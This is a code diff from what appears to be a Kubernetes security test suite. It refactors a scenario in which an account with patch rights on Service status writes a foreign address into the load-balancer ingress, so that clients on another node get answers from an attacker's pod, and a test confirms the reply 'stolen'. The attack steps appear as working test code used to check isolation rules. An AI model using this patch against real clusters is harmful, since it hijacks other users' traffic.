@@ -29,26 +29,28 @@ var _ = tell(Story{
 	Attempts: []Attempt{{
 		Name:   "writing another server's address into the status of a Service",
 		Effect: "a client on the other node, which opens that address, gets its answer from the attacker's pod",
-		By:     daemon, Rights: []rbacv1.PolicyRule{right("", []string{"get", "patch"}, "services", "services/status")},
+		By:     daemon, Rights: mayWriteServices,
 		Rule: "NS-SCOPE-1", Text: "[NA-UNI-SERVICES]",
 		Prepare: attackersService,
-		Attack: sends(func(r *Run) Request {
-			ingress := []any{fields{"ip": r.Address()}}
-			return Patch(api.Services).In(r.Namespace(context.Background())).Named(r.Name).Sub("status").Stored().
-				With(fields{"status": fields{"loadBalancer": fields{"ingress": ingress}}})
-		}),
+		Attack:  sends(func(r *Run) Request { return withAddress(r).Stored() }),
 		Show: func(ctx context.Context, r *Run, _ Answer) {
 			Eventually(ctx, visit).WithArguments(r.Victim(), r.Address()).WithTimeout(Soon).WithPolling(time.Second).
 				Should(Equal("stolen"))
 			r.Say("%s: curl http://%s/ → stolen", r.Victim(), r.Address())
 		},
-		TwinIs: "reading the Service instead of writing its status",
-		Twin: sends(func(r *Run) Request {
-			return Get(api.Services).In(r.Namespace(context.Background())).Named(r.Name)
-		}),
+		TwinIs: byOtherAccount, TwinRule: Behind, Twin: byUnscoped(mayWriteServices, withAddress),
 		Labels: Label(OnHost),
 	}},
 })
+
+var mayWriteServices = []rbacv1.PolicyRule{right("", []string{"get", "patch"}, "services", "services/status")}
+
+// withAddress writes the address into the status of the attacker's Service, as a cloud provider does.
+func withAddress(r *Run) Request {
+	ingress := []any{fields{"ip": r.Address()}}
+	return Patch(api.Services).In(r.Namespace(context.Background())).Named(r.Name).Sub("status").
+		With(fields{"status": fields{"loadBalancer": fields{"ingress": ingress}}})
+}
 
 // answersStolen answers every HTTP request on a port of the node.
 const answersStolen = `exec /usr/bin/perl -e 'use IO::Socket::INET;
